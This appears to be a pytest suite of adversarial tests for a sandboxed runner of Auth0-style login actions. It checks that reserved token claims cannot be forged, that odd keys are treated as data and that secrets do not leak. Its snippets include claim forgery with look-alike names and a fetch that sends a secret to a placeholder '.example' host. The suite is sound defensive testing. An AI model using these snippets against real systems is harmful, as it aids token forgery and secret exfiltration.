"""Names and secrets (threat-model J4, J5, S2, S3): reserved and odd names change nothing but themselves, and a
secret stands in nothing that is shown."""

# ruff: noqa: E501 - tables of one-line programs

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from runner.flow.runner import Runner
from sandbox.egress import NoEgress
from tests.adversarial.arena import PATIENT, attack, ended, printed
from tests.flow.actions import javascript, python
from triggers import get_trigger

ODD = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__class__",
    "__dict__",
    "model_fields",
    "model_config",
    "copy",
    "keys",
    "items",
    "get",
    "",
    " ",
    "\u0000",
    "a\nb",
    "\u202ex",
    "\ud83d",
    "ﬁ",
    "é",
    "e\u0301",
    "1",
    "-",
    "x" * 300,
]


def on_name(name: str) -> tuple[Any, Any]:
    text = json.dumps(name)
    script = f"for (const f of [() => api.user.setUserMetadata({text}, 1), () => api.user.setAppMetadata({text}, {{ [{text}]: 1 }}), () => api.idToken.setCustomClaim({text}, 1), () => api.accessToken.setCustomClaim({text}, 1), () => api.transaction.setMetadata({text}, 'x'), () => api.cache.set({text}, 'x')]) try {{ f() }} catch (e) {{ if (!(e instanceof Error)) console.log('ODD') }} console.log({{}}.polluted === undefined, typeof {{}}.x, Object.prototype.toString.call([]))"
    lines = f"n = {name!r}\nfor f in (lambda: api.user.set_user_metadata(n, 1), lambda: api.user.set_app_metadata(n, {{n: 1}}), lambda: api.id_token.set_custom_claim(n, 1), lambda: api.access_token.set_custom_claim(n, 1), lambda: api.transaction.set_metadata(n, 'x'), lambda: api.cache.set(n, 'x')):\n    try: f()\n    except (ValueError, TypeError, ApiError): pass\nprint('done')"
    return javascript(script), python(lines)


@pytest.mark.parametrize("name", ODD)
def test_odd_names_are_data_or_refused(name: str) -> None:
    for action in on_name(name):
        outcome = attack(action, limits=PATIENT)
        assert outcome.failure is None, outcome.failure
        assert printed(outcome)[-1] in ("done", "true undefined [object Array]")
        effects = json.loads(outcome.to_json())["effects"]
        assert type(effects["user_metadata"]) is dict
        assert set(effects["user_metadata"]) <= {
            name,
            name.encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
        }


RESERVED = [
    "sub",
    "iss",
    "aud",
    "exp",
    "iat",
    "nbf",
    "jti",
    "azp",
    "acr",
    "amr",
    "nonce",
    "at_hash",
    "sid",
    "org_id",
    "roles",
    "permissions",
    "act",
    "cnf",
    "auth_time",
    "txn",
    "gty",
    "entitlements",
    "groups",
]
LOOK_ALIKES = [
    "SUB",
    "Sub",
    "sub ",
    " sub",
    "ѕub",
    "ｓub",
    "sub\u200b",
    "sub\u0000",
    "su\u0062\u0307",
    "isѕ",
    "аud",
    "sub.x",
    "sub/x",
    "/sub",
    "http://sub",
]
NAMESPACES = [
    "https://auth0.com/x", "https://x.auth0.com/y", "http://webtask.io/z", "https://a.webtask.run/b", "urn:auth0:x", "HTTPS://AUTH0.COM/x", "https://auth0.com:443/x", "https://user@auth0.com/x", "https://auth0.com./x", "https://auth0%2ecom/x",
]  # fmt: skip


@pytest.mark.parametrize("token", ["idToken", "accessToken"])
def test_reserved_claims_are_never_applied(token: str) -> None:
    sets = "".join(
        f"api.{token}.setCustomClaim({json.dumps(name)}, 'forged');" for name in [*RESERVED, *NAMESPACES]
    )
    outcome = attack(javascript(f"{sets} api.{token}.setCustomClaim('plan', 'kept')"), limits=PATIENT)
    assert outcome.failure is None, outcome.failure
    claims = outcome.effects.id_token_claims if token == "idToken" else outcome.effects.access_token_claims
    assert claims == {"plan": "kept"}


@pytest.mark.parametrize("name", LOOK_ALIKES)
def test_a_look_alike_is_another_name(name: str) -> None:
    """Compared exactly: it stands under its own bytes, or is refused; the real claim is out of reach."""
    outcome = attack(
        javascript(f"try {{ api.idToken.setCustomClaim({json.dumps(name)}, 'forged') }} catch {{}}"),
        limits=PATIENT,
    )
    assert outcome.failure is None
    assert set(outcome.effects.id_token_claims) <= {name}
    assert not set(outcome.effects.id_token_claims) & set(RESERVED)


APP_RESERVED = [
    "__tenant",
    "_id",
    "blocked",
    "clientID",
    "created_at",
    "email_verified",
    "email",
    "globalClientID",
    "global_client_id",
    "identities",
    "lastIP",
    "lastLogin",
    "loginsCount",
    "metadata",
    "multifactor_last_modified",
    "multifactor",
    "updated_at",
    "user_id",
]


@pytest.mark.parametrize("name", [*APP_RESERVED, "a.b", "$set", "a$b", ".", "$"])
def test_reserved_metadata_keys_are_refused(name: str) -> None:
    for action in (
        javascript(f"api.user.setAppMetadata({json.dumps(name)}, true)"),
        python(f"api.user.set_app_metadata({name!r}, True)"),
    ):
        outcome = ended(attack(action), "invalid_command")
        assert outcome.effects.app_metadata == {}


# --- secrets ---

SECRETS = {
    "PLAIN": "correct-horse-battery",
    "QUOTED": 'it\'s "quoted" \\ back',
    "LINES": "-----BEGIN KEY-----\nabc\tdef\n-----END KEY-----",
    "UNICODE": "pässwörd-ключ-鍵鍵",
    "SPECIAL": "a$b.*[c](d)|e^{2}",
    "LONGER": "correct-horse-battery-and-staple",
    "HTML": "<script>&amp;</script>",
}


def hidden(outcome: Any, names: dict[str, str]) -> None:
    text = outcome.to_json() + repr(outcome) + json.dumps(outcome.to_dict(), ensure_ascii=False)
    for name, value in names.items():
        for form in (
            value,
            json.dumps(value)[1:-1],
            json.dumps(value, ensure_ascii=False)[1:-1],
            repr(value)[1:-1],
        ):
            assert form not in text, f"{name} stands in the outcome"


FORMS_JS = {
    "as text": "console.log('v ' + s)",
    "as an argument": "console.log('v', s)",
    "in an object": "console.log({ s, a: [s], [s]: 1 })",
    "as JSON": "console.log(JSON.stringify({ s }))",
    "in a template": "console.error(`<${s}>`)",
    "in a table": "console.table([{ s }])",
    "in an error": "throw new Error('failed: ' + s)",
    "as an error's name": "const e = new Error('x'); e.name = s; throw e",
    "as an error's code": "const e = new Error('x'); e.code = s; throw e",
    "as a cause": "throw new Error('x', { cause: new Error(s) })",
    "thrown itself": "throw s",
    "thrown in an object": "throw { s }",
    "in a refused claim": "api.idToken.setCustomClaim(s, 1n)",
    "in a refused command": "api.user.setAppMetadata(s + '.x', 1)",
    "in a command": "api.multifactor.enable(s)",
    "in a URL": "await fetch('http://' + encodeURIComponent(s) + '.example/?q=' + s)",
    "in a label": "console.time(s); console.timeEnd(s); console.count(s)",
    "in a stack": "const o = { [s]() { throw new Error('x') } }; o[s]()",
}
FORMS_PY = {
    "as text": "print('v ' + s)",
    "as an argument": "print('v', s)",
    "in a dictionary": "print({'s': s, s: [s]}, (s,), {s})",
    "as JSON": "import json\nprint(json.dumps({'s': s}), json.dumps(s, ensure_ascii=False))",
    "in a template": "print(f'<{s}> {s!r}')",
    "in an error": "raise ValueError('failed: ' + s)",
    "as an argument of an error": "raise KeyError(s)",
    "in a note": "e = ValueError('x')\ne.add_note(s)\nraise e",
    "as a cause": "raise ValueError('x') from KeyError(s)",
    "in a group": "raise ExceptionGroup('x', [ValueError(s)])",
    "in a refused command": "api.user.set_app_metadata(s + '.x', 1)",
    "in a lookup": "{}[s]",
    "by logging": "import logging\nlogging.error('v %s', s)",
    "in a dataclass": "import dataclasses\n@dataclasses.dataclass\nclass D:\n    s: str\nprint(D(s))",
}  # fmt: skip


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize("form", [*FORMS_JS, *(f"python {form}" for form in FORMS_PY)])
def test_a_secret_is_in_nothing_that_is_shown(form: str, secret: str) -> None:
    if form.startswith("python "):
        action = python(f"s = event.secrets.{secret}\n{FORMS_PY[form[7:]]}")
    else:
        action = javascript(f"const s = event.secrets.{secret};\n{FORMS_JS[form]}")
    runner = Runner(egress=NoEgress())
    event = get_trigger("post-login").example_event
    outcome = runner.run("post-login", event, [replace(action, secrets=SECRETS, limits=PATIENT)])
    hidden(outcome, SECRETS)


def test_a_secret_of_another_action_is_not_there() -> None:
    """Only the running version's secrets cross (threat-model S3)."""
    runner = Runner(egress=NoEgress())
    walk_js = javascript(
        "const seen = new Set(); let found = false; const visit = (v, d) => { if (typeof v === 'string') { found ||= v.includes('other-secret'); return } if (Object(v) !== v || seen.has(v) || d > 8) return; seen.add(v); for (const k of Reflect.ownKeys(v)) { const p = Object.getOwnPropertyDescriptor(v, k); visit(p.value, d + 1) } visit(Object.getPrototypeOf(v), d + 1) }; visit(globalThis, 0); visit(event, 0); visit(api, 0); visit(require, 0); console.log(found, seen.size > 500)",
        name="walk",
        secrets={"MINE": "my-own-secret"},
    )
    keeper = javascript("globalThis.kept = event.secrets.K", name="keep", secrets={"K": "other-secret-value"})
    outcome = runner.run("post-login", get_trigger("post-login").example_event, [keeper, walk_js])
    assert outcome.failure is None, outcome.failure
    assert outcome.actions[1].logs[0].text == "false true"
